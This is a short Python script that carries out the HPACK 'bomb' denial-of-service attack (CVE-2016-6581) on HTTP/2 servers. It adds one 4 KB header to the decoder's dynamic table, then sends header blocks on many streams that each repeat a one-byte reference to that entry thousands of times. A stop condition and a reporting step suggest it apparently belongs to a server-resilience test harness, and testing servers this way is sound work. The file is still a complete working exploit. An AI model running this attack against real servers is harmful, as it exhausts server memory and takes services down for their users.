"""HPACK bomb (CVE-2016-6581): a 4 KB field put in the dynamic table once,
then header blocks that each name it thousands of times (one byte per
4 KB decoded), on many streams."""
import time
from h2raw import *

c = Conn(port())
streams = arg(2, 200)
enc = Encoder()
# Literal with incremental indexing, new name: 0x40, name, value (no Huffman).
name, value = b"bomb", b"b" * 4000
def string(s):
    # 7-bit prefix integer for the length, no Huffman.
    n = len(s)
    if n < 127:
        return bytes([n]) + s
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out) + s
add = b"\x40" + string(name) + string(value)
sent = 0
for i in range(streams):
    block = request_block(enc, "/a.txt")
    if i == 0:
        block += add
    # Indexed field 62: the newest dynamic table entry (the 4 KB field).
    block += b"\xbe" * (16000 - len(block))
    if not c.send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, block)):
        break
    sent += 1
    c.poll()
    if c.goaway is not None or c.closed or time.monotonic() - c.start > 20:
        break
c.finish()
c.report(sent)
